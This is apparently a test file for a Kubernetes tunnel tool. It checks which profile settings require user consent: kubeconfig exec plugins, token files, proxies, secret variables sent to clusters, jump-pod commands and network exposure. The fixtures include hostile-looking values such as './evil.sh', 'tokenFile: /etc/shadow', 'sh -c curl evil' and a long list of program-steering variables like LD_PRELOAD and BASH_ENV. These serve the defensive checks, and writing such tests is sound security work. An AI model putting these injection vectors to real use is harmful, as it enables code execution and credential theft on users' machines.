/** What a profile needs consent for, and what consent is bound to, on files of a real folder. */

import { afterAll, describe, expect, test } from "bun:test";
import { chown, mkdir, symlink } from "node:fs/promises";
import { write } from "bun";
import { sharedLimits } from "#base/limits.ts";
import { consentDigest } from "#profile/consent/consent.ts";
import { type LoadedPlan, loadPlan } from "#profile/load.ts";
import { steeringReason } from "#profile/consent/steering.ts";
import { tempDir } from "#test/support/temp-dir.ts";

const directory = await tempDir();
afterAll(() => directory[Symbol.asyncDispose]());
const home = `${directory.path}/home`;
let count = 0;

interface Given {
  readonly files: Readonly<Record<string, string>>;
  readonly environment?: Readonly<Record<string, string>>;
}

/** A new folder with these files. */
async function folder(files: Given["files"]): Promise<string> {
  const path = `${directory.path}/${count++}`;
  for (const [name, text] of Object.entries(files)) await write(`${path}/${name}`, text);
  return path;
}

function load(path: string, environment: Given["environment"] = {}): Promise<LoadedPlan> {
  return loadPlan({ file: `${path}/tunnels.toml`, environment, home });
}

async function whats({ files, environment }: Given): Promise<readonly string[]> {
  const path = await folder(files);
  return (await load(path, environment)).facts.map(({ what }) => what.replaceAll(path, "."));
}

const user = (body: string, cluster = ""): string => `apiVersion: v1
kind: Config
current-context: c
clusters: [{name: c, cluster: {server: "https://127.0.0.1:1"${cluster}}}]
contexts: [{name: c, context: {cluster: c, user: u}}]
users: [{name: u, user: {${body}}}]
`;
const plugin = user("exec: {apiVersion: client.authentication.k8s.io/v1, command: ./evil.sh, args: [--token, hunter2hunter2]}");
const routes = '[routes]\n"a.localhost" = "shop/svc/a:80"\n';

describe("a profile that only maps names", () => {
  test.each([
    ["routes and ports", { "tunnels.toml": `context = "prod"\n${routes}[tcp]\n5432 = "svc/db:5432"` }],
    ["variables for programs", { "tunnels.toml": `[env]\nDATABASE_URL = "postgres://\${USER}@x"\nNODE_ENV = "test"\nPGHOST = "a"` }],
    ["a namespace by the user's name", { "tunnels.toml": 'namespace = "${USER}"' }],
    ["whole namespaces, with names of no site of the web", { "tunnels.toml": '[[forward]]\nnamespaces = ["shop"]\ndomain = "dev.test"' }],
    ["a default", { "tunnels.toml": 'namespace = "${NONE:-dev}"' }],
    ["a context, an address and a hostname of the environment", { "tunnels.toml": 'context = "${CONTEXT}"\n[http]\nsuffix = "${SUFFIX}"' }],
    ["the usual kubeconfig", { "tunnels.toml": 'kubeconfig = ["~/.kube/config", "~/.kube/other"]' }],
    ["a kubeconfig that is whole in itself", { "tunnels.toml": 'kubeconfig = "./kc"', kc: user("token: abc") }],
    ["a kubeconfig that is not there", { "tunnels.toml": 'kubeconfig = "./kc"' }],
    ["files of its folder", { "tunnels.toml": 'extends = ["./team.toml", "kt:argocd"]', "team.toml": routes }],
    [
      "a jump pod of kt's",
      { "tunnels.toml": '[tcp.1]\ntarget = "db:1"\nvia = { pod = "kt-jump", create = { command = ["sleep", "9"] } }' },
    ],
  ])("needs no consent for %s", async (_, files) => {
    const environment = { USER: "me", CONTEXT: "dev", SUFFIX: "x.localhost" };
    expect(await whats({ files: files as Given["files"], environment })).toEqual([]);
  });
});

describe("consent is needed for", () => {
  test.each([
    ["a plugin", { kc: plugin }, 'uses the kubeconfig "./kc", which runs the program "evil.sh"'],
    ["a token file", { kc: user("tokenFile: /etc/shadow") }, 'uses the kubeconfig "./kc", which sends the content of a file as its token'],
    ["a key", { kc: user("client-key: ~/.ssh/id") }, 'uses the kubeconfig "./kc", which reads a file as its key'],
    [
      "an auth-provider",
      { kc: user("auth-provider: {name: oidc}") },
      'uses the kubeconfig "./kc", which has a login of its own (auth-provider)',
    ],
    [
      "a proxy",
      { kc: user("token: a", ', proxy-url: "http://evil"') },
      'uses the kubeconfig "./kc", which goes through a proxy of its own',
    ],
    ["an anchor", { kc: `x: &a {exec: {command: evil}}\n${user("<<: *a")}` }, 'uses the kubeconfig "./kc", which runs the program "evil"'],
    ["a second document", { kc: `${user("token: a")}---\n${plugin}` }, 'uses the kubeconfig "./kc", which runs the program "evil.sh"'],
  ])("%s in a kubeconfig of the folder", async (_, files, what) => {
    expect(await whats({ files: { "tunnels.toml": 'kubeconfig = "./kc"', ...(files as object) } })).toEqual([what]);
  });

  test("kubeconfigs of two origins in one list", async () => {
    const files = { "tunnels.toml": 'kubeconfig = ["./kc", "~/.kube/config"]', kc: user("token: abc") };
    expect(await whats({ files })).toEqual([
      'uses the kubeconfig "./kc", which is merged with other kubeconfigs, whose credentials may then go to its servers',
    ]);
  });

  test("the same in $KUBECONFIG only where the profile names it", async () => {
    const path = await folder({ "tunnels.toml": 'kubeconfig = "./kc"', kc: plugin });
    expect((await load(path, { KUBECONFIG: "kc", PWD: path })).facts).toEqual([]);
    expect((await load(path, { KUBECONFIG: "kc", PWD: "/" })).facts).toHaveLength(1);
  });

  test("a link of the folder to the user's own kubeconfig, whose programs would be the folder's", async () => {
    await write(`${home}/.kube/config`, plugin);
    const path = await folder({ "tunnels.toml": 'kubeconfig = "./kc"' });
    await symlink(`${home}/.kube/config`, `${path}/kc`);
    expect((await load(path)).facts).toHaveLength(1);
  });

  test("a service of the cluster that leads here, and more for one that is replaced", async () => {
    const reverse = '[[reverse]]\nservice = "shop/api:80"\nlocal = "127.0.0.1:3000"\n';
    const made = 'lets the cluster connect to 127.0.0.1:3000 on this machine as the service "shop/api:80"';
    expect(await whats({ files: { "tunnels.toml": reverse } })).toEqual([`${made} ([[reverse]])`]);
    expect(await whats({ files: { "tunnels.toml": `${reverse}replace = true\n` } })).toEqual([
      `${made}, in place of the service that is there ([[reverse]])`,
    ]);
  });

  test("another service, port, context or namespace of a [[reverse]] anew", async () => {
    const digestOf = async (before: string, service: string, local: string): Promise<string> => {
      const text = `${before}[[reverse]]\nservice = "${service}"\nlocal = "${local}"\n`;
      return consentDigest((await load(await folder({ "tunnels.toml": text }))).facts);
    };
    const digests = await Promise.all([
      digestOf("", "shop/api:80", "127.0.0.1:3000"),
      digestOf("", "shop/api:81", "127.0.0.1:3000"),
      digestOf("", "shop/api:80", "127.0.0.1:3001"),
      digestOf('context = "prod"\n', "shop/api:80", "127.0.0.1:3000"),
      digestOf("", "api:80", "127.0.0.1:3000"),
      digestOf('namespace = "other"\n', "api:80", "127.0.0.1:3000"),
    ]);
    expect(new Set(digests).size).toBe(digests.length);
  });

  test("variables that leave the machine, in any place but those that stay", async () => {
    const environment = { SECRET: "s", USER: "me" };
    for (const text of [
      'namespace = "${SECRET}"',
      '[routes]\n"a.localhost" = "x/svc/${SECRET}:80"',
      '[tcp.1]\ntarget = "${SECRET}.evil:1"\nvia = "svc/a"',
      '[tcp.1]\ntarget = "a:1"\nvia = { service = "${SECRET}" }',
      '[tcp.1]\ntarget = "a:1"\nvia = "svc/a"\ncontainer = "${SECRET}"',
      '[[patterns]]\nhost = "{a}.x.localhost"\ntarget = "svc/${SECRET}:80"',
      'namespace = "${SECRET:-none}"',
      '[[forward]]\nnamespaces = ["${SECRET}"]',
    ])
      expect(await whats({ files: { "tunnels.toml": text }, environment })).toEqual([
        "sends the variable SECRET of your environment to a cluster, as a part of a name",
      ]);
    const chosen = { "tunnels.toml": 'kubeconfig = "./kc"\ncontext = "${SECRET}"', kc: user("token: a") };
    expect(await whats({ files: chosen, environment })).toHaveLength(1);
    const files = { "tunnels.toml": 'kubeconfig = "./kc"\nnamespace = "${USER}"', kc: user("token: a") };
    expect(await whats({ files, environment })).toEqual(["sends the variable USER of your environment to a cluster, as a part of a name"]);
  });

  test("programs in the cluster", async () => {
    const via = (create: string): Given => ({
      files: { "tunnels.toml": `[tcp.1]\ntarget = "db:1"\nvia = { pod = "kt-jump", create = { ${create} } }` },
    });
    expect(await whats(via('image = "evil/socat:1"'))).toEqual(['runs the image "evil/socat:1" as a jump pod']);
    expect(await whats(via('command = ["sh", "-c", "curl evil"]'))).toEqual(["runs a command of its own in a jump pod"]);
    const path = await folder(via('image = "evil/${SECRET}"').files);
    const { facts } = await load(path, { SECRET: "canary" });
    expect(facts.map(({ what }) => what)).toContain('runs the image "evil/${SECRET}" as a jump pod');
    expect(JSON.stringify(facts)).not.toContain("canary");
  });

  test("files outside of the folder, by whatever way", async () => {
    const outside = await folder({ "team.toml": routes });
    const path = await folder({ "tunnels.toml": 'extends = ["./link.toml"]' });
    await symlink(`${outside}/team.toml`, `${path}/link.toml`);
    expect((await load(path)).facts).toHaveLength(1);
    expect(await whats({ files: { "tunnels.toml": `extends = ["${outside}/team.toml"]` } })).toEqual([
      `extends "${outside}/team.toml", which is outside of its folder`,
    ]);
  });

  test.if(process.getuid?.() === 0)("files of another user, unless root became one by sudo", async () => {
    const path = await folder({ "tunnels.toml": routes, "tunnels.local.toml": "" });
    await chown(`${path}/tunnels.local.toml`, 65_533, 0);
    const { facts } = await load(path);
    expect(facts).toMatchObject([
      { what: `is made of "${path}/tunnels.local.toml", which belongs to another user, number 65533`, isForeign: true },
    ]);
    expect((await load(path, { SUDO_UID: "65533" })).facts).toEqual([]);
  });

  test("nothing in the user's own profile", async () => {
    await write(`${home}/.config/kt/tunnels.toml`, 'kubeconfig = "./kc"\n[env]\nPATH = "/x"');
    await write(`${home}/.config/kt/kc`, plugin);
    expect((await load(`${home}/.config/kt`)).facts).toEqual([]);
    await mkdir(`${directory.path}/xdg/kt`, { recursive: true });
    await write(`${directory.path}/xdg/kt/tunnels.toml`, '[env]\nPATH = "/x"');
    expect((await load(`${directory.path}/xdg/kt`, { XDG_CONFIG_HOME: `${directory.path}/xdg` })).facts).toEqual([]);
  });
});

describe("who is let in", () => {
  const page = "which may be a site of the web";
  test.each([
    ["the network", 'expose = true\n[http]\nlisten = "0.0.0.0:8989"', ["lets other machines in on 0.0.0.0:8989 (expose = true)"]],
    ["it by [http]", '[http]\nexpose = true\nlisten = ["[::]:1", 2]', ["lets other machines in on [::]:1 (expose = true)"]],
    ["it by a port", '[tcp."0.0.0.0:1"]\ntarget = "svc/a:1"\nexpose = true', ["lets other machines in on 0.0.0.0:1 (expose = true)"]],
    ["it, so far without an address", "expose = true", ["lets other machines in (expose = true)"]],
    ["a page", '[http]\nallow_origins = "https://a.com"', ['lets in pages of "https://a.com" (allow_origins)']],
    [
      "names of the cluster",
      'namespace = "shop"\n[http]\ncluster_names = true',
      ["serves SERVICE.NAMESPACE by the cluster's own names (cluster_names)"],
    ],
    ["every page", '[http]\nallow_origins = ["null", "*"]', ['lets in pages of "*", "null" (allow_origins)']],
    ["pages by a route's name", '[routes]\n"www.evil.com" = "svc/a:80"', [`serves names of "evil.com", ${page}`]],
    ["pages by its whole name", '[routes]\n"EVIL.com." = "svc/a:80"', [`serves names of "evil.com", ${page}`]],
    ["pages by an address", '[routes]\n"203.0.113.5" = "svc/a:80"', [`serves names of "203.0.113.5", ${page}`]],
    ["pages by a pattern", '[[patterns]]\nhost = "{a}.x.{b}.evil.com"\ntarget = "svc/{a}:80"', [`serves names of "evil.com", ${page}`]],
    ["all pages by a pattern", '[[patterns]]\nhost = "{a}.{b}"\ntarget = "svc/{a}:80"', ["serves names of the whole web"]],
    ["pages by the domain of services", '[[forward]]\ndomain = "evil.com"', [`serves names of "evil.com", ${page}`]],
    ["pages by the suffix", '[http]\nsuffix = "k8s.evil.com"', [`serves names of "evil.com", ${page}`]],
    ["every context", "[http]\ndynamic = true", ["lets dynamic names reach every context (dynamic = true)"]],
    ["a context", 'context = "a"\n[http]\ndynamic = ["a", "b"]', ['lets dynamic names reach "b", which it does not name otherwise']],
    [
      "contexts by a pattern",
      '[[patterns]]\nhost = "{a}.{c}.x.localhost"\ntarget = "svc/{a}:80"\ncontext = "{c}"',
      ['lets the pattern "{a}.{c}.x.localhost" reach every context'],
    ],
  ])("%s: consent", async (_, text, expected) => expect(await whats({ files: { "tunnels.toml": text } })).toEqual(expected));

  test.each([
    ["addresses of this machine", '[http]\nlisten = ["127.0.0.1:1", 2]\n[tcp]\n"127.9.9.9:3" = "svc/a:1"'],
    ["pages of this machine", '[http]\nallow_origins = ["http://localhost:3000", "https://a.localhost"]'],
    [
      "names of no site of the web",
      '[routes]\n"a.localhost" = "svc/a:80"\n"b.test" = "svc/a:80"\n"127.1.1.1" = "svc/a:80"\nweb = "svc/a:80"',
    ],
    ["no dynamic names", "[http]\ndynamic = false"],
    [
      "named contexts",
      '[contexts]\nshort = "arn:x"\n[routes."a.localhost"]\ntarget = "svc/a:1"\ncontext = "c"\n[http]\ndynamic = ["short", "arn:x", "c"]',
    ],
  ])("%s: none", async (_, text) => expect(await whats({ files: { "tunnels.toml": text } })).toEqual([]));

  test("by a file beside the profile or under it as well", async () => {
    const open = "[http]\ndynamic = true";
    expect(await whats({ files: { "tunnels.toml": routes, "tunnels.local.toml": open } })).toHaveLength(1);
    expect(await whats({ files: { "tunnels.toml": 'extends = ["./a.toml"]', "a.toml": open } })).toHaveLength(1);
  });

  test("consent is bound to the addresses, the pages and the names", async () => {
    const digest = async (text: string): Promise<string> => consentDigest((await load(await folder({ "tunnels.toml": text }))).facts);
    const origins = (list: string): string => `[http]\nallow_origins = ${list}\n`;
    expect(await digest(origins('["https://a.com", "https://b.com"]'))).toBe(
      await digest(origins('["https://b.com", "https://a.com"]') + routes),
    );
    expect(await digest(origins('["https://a.com"]'))).not.toBe(await digest(origins('["https://b.com"]')));
    const name = (host: string): string => `[routes]\n"${host}" = "svc/a:80"`;
    expect(await digest(name("a.corp.com"))).toBe(await digest(name("b.corp.com")));
    expect(await digest(name("a.corp.com"))).not.toBe(await digest(name("a.evil.com")));
    const wide = (host: string): string => `expose = true\n[http]\nlisten = "${host}:1"`;
    expect(await digest(wide("0.0.0.0"))).not.toBe(await digest(wide("10.0.0.5")));
  });
});

describe("variables of [env]", () => {
  const steering =
    "PATH Path LD_PRELOAD LD_LIBRARY_PATH DYLD_INSERT_LIBRARIES BASH_ENV ENV NODE_OPTIONS NODE_PATH PYTHONPATH PYTHONSTARTUP PERL5OPT PERL5LIB RUBYOPT JAVA_TOOL_OPTIONS _JAVA_OPTIONS JDK_JAVA_OPTIONS GIT_SSH_COMMAND GIT_CONFIG_GLOBAL SSH_ASKPASS SSH_AUTH_SOCK PROMPT_COMMAND PS1 PS4 IFS SHELL EDITOR PAGER VISUAL BROWSER LESSOPEN BUN_OPTIONS KT_X KUBECONFIG HTTP_PROXY https_proxy ALL_PROXY NO_PROXY SSL_CERT_FILE CURL_CA_BUNDLE HOME XDG_CONFIG_HOME TMPDIR ZDOTDIR MANPAGER GIT_PAGER npm_config_registry GOFLAGS RUSTC_WRAPPER MAKEFLAGS DOCKER_HOST AWS_CONFIG_FILE GCONV_PATH PSQLRC VIMINIT EXINIT NVIM_APPNAME FCEDIT HGEDITOR MANROFFOPT MAKEFILES MAKE LDFLAGS GCC_EXEC_PREFIX CPATH C_INCLUDE_PATH KAFKA_OPTS CATALINA_OPTS JVM_OPTS FZF_DEFAULT_OPTS FZF_DEFAULT_COMMAND RIPGREP_CONFIG_PATH BAT_CONFIG_PATH ZIPOPT GETCONF_DIR ODBCSYSINI TNS_ADMIN VK_LAYER_PATH MAGICK_CONFIGURE_PATH PYTEST_PLUGINS TS_NODE_PROJECT CHROME_BIN PUPPETEER_EXECUTABLE_PATH ESBUILD_BINARY_PATH HISTFILE TF_DATA_DIR COMPOSE_FILE GH_HOST ASAN_OPTIONS SPRING_CONFIG_LOCATION";
  const data =
    "DATABASE_URL PGHOST PGPORT PGPASSWORD REDIS_URL NODE_ENV PYTHONUNBUFFERED RUST_LOG VAULT_ADDR AWS_PROFILE AWS_ENDPOINT_URL GRAFANA_URL API_KEY PORT HOST DEBUG LANG LC_ALL TZ KUBE_NAMESPACE RAILS_ENV SPRING_DATASOURCE_URL SPRING_PROFILES_ACTIVE ASPNETCORE_ENVIRONMENT ASPNETCORE_URLS TF_VAR_host DJANGO_SETTINGS_MODULE FLASK_APP PGOPTIONS PGSSLMODE MYSQL_PWD NODE_PENDING KAFKA_BROKERS TERM USER VITE_API OTEL_EXPORTER_OTLP_ENDPOINT SENTRY_DSN COMPOSE_PROJECT_NAME";
  test.each(steering.split(" "))("%s steers programs", (name) => expect(steeringReason(name)).toBeString());
  test.each(data.split(" "))("%s is data", (name) => expect(steeringReason(name)).toBeUndefined());

  test("that steer are facts with their text as written, so that another PATH of the shell is no other fact", async () => {
    const path = await folder({ "tunnels.toml": '[env]\nPATH = "./bin:${PATH}"\nA = "b"' });
    const [one, other] = [await load(path, { PATH: "/a" }), await load(path, { PATH: "/b" })];
    expect(one.facts).toMatchObject([{ what: "sets PATH by [env]", detail: "PATH = ./bin:${PATH}" }]);
    expect(consentDigest(other.facts)).toBe(consentDigest(one.facts));
  });
});

describe("consent is bound to", () => {
  const words = `sh, -c, "./evil.sh; bin/late.sh | sh ./bin/line.sh --x 2>&1", --require=./bin/option.js, ./bin/large`;
  const kc = user(
    `exec: {apiVersion: client.authentication.k8s.io/v1, command: env, args: [${words}], env: [{name: BASH_ENV, value: rc.sh}]}`,
  );
  const large = "x".repeat(sharedLimits.kubeconfigBytes + 1);
  const files = {
    "tunnels.toml": `kubeconfig = "./kc"\n${routes}`,
    kc,
    "evil.sh": "one",
    "bin/line.sh": "1",
    "bin/option.js": "1",
    "rc.sh": "1",
    "bin/large": large,
  };

  async function digestAfter(change: Readonly<Record<string, string>>): Promise<boolean> {
    const path = await folder(files);
    const before = consentDigest((await load(path)).facts);
    for (const [name, text] of Object.entries(change)) await write(`${path}/${name}`, text);
    return consentDigest((await load(path)).facts) === before;
  }

  test.each([
    ["not the routes", { "tunnels.toml": `kubeconfig = "./kc"\n${routes}"b.localhost" = "svc/b:80"\n[tcp]\n1 = "svc/c:1"` }, true],
    ["not variables that are data", { "tunnels.toml": `kubeconfig = "./kc"\n${routes}[env]\nA = "b"` }, true],
    ["every byte of the kubeconfig", { kc: `${kc}\n` }, false],
    ["the program of the folder that it runs", { "evil.sh": "two" }, false],
    ["a program that is not there yet", { "bin/late.sh": "two" }, false],
    ["a program of a shell's line", { "bin/line.sh": "two" }, false],
    ["a program of an option", { "bin/option.js": "two" }, false],
    ["a program of a variable", { "rc.sh": "two" }, false],
    ["a program too large to be read whole", { "bin/large": "x".repeat(sharedLimits.kubeconfigBytes + 2) }, false],
    ["variables that steer", { "tunnels.toml": `kubeconfig = "./kc"\n${routes}[env]\nPATH = "x"` }, false],
  ])("%s", async (_, change, same) => expect(await digestAfter(change as Readonly<Record<string, string>>)).toBe(same));

  test("the server that a variable goes to", async () => {
    const environment = { SECRET: "s" };
    const text = 'namespace = "${SECRET}"\n';
    const path = await folder({ "tunnels.toml": text });
    const before = consentDigest((await load(path, environment)).facts);
    await write(`${path}/kc`, user("token: a"));
    await write(`${path}/tunnels.toml`, `kubeconfig = "./kc"\n${text}`);
    const [one, other] = [consentDigest((await load(path, environment)).facts), user("token: b").replace(":1", ":2")];
    expect(one).not.toBe(before);
    await write(`${path}/kc`, other);
    expect(consentDigest((await load(path, environment)).facts)).not.toBe(one);
  });

  test("a command is shown whole to who is asked, and is not in errors", async () => {
    const [fact] = (await load(await folder({ ...files, kc: plugin }))).facts;
    expect(fact?.detail).toBe("./evil.sh --token hunter2hunter2");
    expect(fact?.what).not.toContain("--token");
  });
});
